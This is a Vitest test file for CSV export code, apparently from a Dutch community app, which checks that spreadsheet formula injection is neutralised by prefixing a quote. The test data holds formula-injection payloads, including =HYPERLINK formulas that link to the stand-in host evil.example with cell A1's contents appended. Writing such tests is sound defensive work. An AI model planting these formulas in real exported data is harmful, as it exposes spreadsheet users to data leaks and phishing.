import { describe, expect, it } from "vitest";
import { csvLine, parseCsv } from "../../src/core/gids/csv.js";
import { signalReportCsv } from "../../src/core/handoff/signal-report-text.js";
import type { SignalReport } from "../../src/core/handoff/signal-report.js";
import { neutralised, unneutralised } from "../../src/core/text/spreadsheet-cell.js";

/** What a spreadsheet program would run as a formula when the file is opened. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "+31 6 1234 5678", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=", "-"];
/** Values that really start with a quote: Dutch names, and the exotic. */
const QUOTED = ["'s-Hertogenbosch", "'t Hoekje", "'", "''", "'=1+1", "''-5", "'@x"];
const PLAIN = ["Dorpshuis De Kom", "", " =1 (a space first is text)", "energie; zorg", 'zei "ja"'];

describe("CSV formula injection", () => {
  it("given a cell a spreadsheet would run, then the export puts a single quote in front and keeps the rest as it was", () => {
    for (const value of FORMULAS) expect(neutralised(value)).toBe(`'${value}`);
    for (const value of ["'s-Hertogenbosch", "'t Hoekje", "'", ...PLAIN]) expect(neutralised(value)).toBe(value);
  });

  it("given any value, when exported and read back, then it is the same value (also one that starts with a quote)", () => {
    for (const value of [...FORMULAS, ...QUOTED, ...PLAIN]) expect(unneutralised(neutralised(value))).toBe(value);
    const line = [...FORMULAS, ...QUOTED, ...PLAIN];
    const csv = `${csvLine(line.map((_, i) => `kolom${i}`))}\r\n${csvLine(line)}\r\n`;
    const [, record] = parseCsv(csv).records;
    expect(record!.cells).toEqual(line);
    expect(csv.split("\r\n")[1]).toMatch(/^"'=HYPERLINK\(""http/);
  });

  it("given shared questions typed as formulas, then the signals spreadsheet shows them as text", () => {
    const row = (question: string, theme = "", region = "") => ({ createdAt: "2026-11-25T10:00:00Z", status: "open", theme, region, question });
    const report = { rows: [row('=HYPERLINK("http://evil.example";"Klik")'), row("+31 6 1234 5678"), row("@SUM(1+1)", "-energie", "=Zeist"), row("'s-Hertogenbosch: hoe?")] } as unknown as SignalReport;
    const lines = signalReportCsv(report).replace(/^\uFEFF/, "").trimEnd().split("\r\n");
    expect(lines.slice(1)).toEqual([
      `2026-11-25;open;;;"'=HYPERLINK(""http://evil.example"";""Klik"")"`,
      "2026-11-25;open;;;'+31 6 1234 5678",
      "2026-11-25;open;'-energie;'=Zeist;'@SUM(1+1)",
      "2026-11-25;open;;;'s-Hertogenbosch: hoe?",
    ]);
    // No cell of a data line starts with a formula character any more.
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|;)"?[=+\-@\t\r]/);
  });
});
